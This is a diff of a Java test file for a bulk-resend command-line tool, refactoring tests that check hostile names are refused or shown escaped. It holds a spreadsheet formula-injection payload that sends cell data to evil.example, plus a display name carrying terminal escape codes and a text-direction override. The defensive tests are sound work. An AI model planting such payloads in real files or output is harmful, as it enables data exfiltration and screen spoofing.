@@ -4,9 +4,11 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 
+import org.bulkresend.support.BulkResendFixture;
 import org.bulkresend.support.Cli;
+import org.bulkresend.support.Contoso;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.api.extension.RegisterExtension;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
@@ -16,19 +18,19 @@ import static org.assertj.core.api.Assertions.assertThat;
  */
 class HostileNamesTests {
 
-    @TempDir
-    Path work;
+    @RegisterExtension
+    static BulkResendFixture fixture = BulkResendFixture.withoutDirectory().withoutMail();
 
     @Test
     void theAuditExportDoesNotLetASpreadsheetRunAName() throws Exception {
-        Cli cli = new Cli(this.work);
-        cli.run("directory", "import", CommandLineTests.SAMPLES.resolve("directory.csv").toString());
+        Cli cli = fixture.cli();
+        fixture.importDirectory(Contoso.DIRECTORY);
         String hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
-        Cli.Result refused = cli.run("run", "--input", CommandLineTests.SAMPLES.resolve("new-hires.csv").toString(),
+        Cli.Result refused = cli.run("run", "--input", Contoso.NEW_HIRES.toString(),
                 "--operator", hostile, "--operator-password-file", cli.passwordFile("whatever"));
         assertThat(refused.exitCode()).as(refused.toString()).isEqualTo(ExitCodes.USAGE);
 
-        Path csv = this.work.resolve("audit.csv");
+        Path csv = fixture.work().resolve("audit.csv");
         Cli.Result export = cli.run("audit", "--csv", csv.toString());
 
         assertThat(export.exitCode()).as(export.toString()).isZero();
@@ -41,12 +43,12 @@ class HostileNamesTests {
 
     @Test
     void directoryListShowsAnEscapeInANameInsteadOfRunningIt() throws Exception {
-        Cli cli = new Cli(this.work);
-        Path directory = Files.writeString(this.work.resolve("directory.csv"), """
+        Cli cli = fixture.cli();
+        Path directory = Files.writeString(fixture.work().resolve("directory.csv"), """
                 userPrincipalName,displayName,alternateEmail
                 mallory@contoso.example,Mallory\u001b[2J\u001b]0;owned\u0007 Evil\u202e,mallory@example.net
                 """);
-        assertThat(cli.run("directory", "import", directory.toString()).exitCode()).isZero();
+        fixture.importDirectory(directory);
 
         Cli.Result list = cli.run("directory", "list");
 
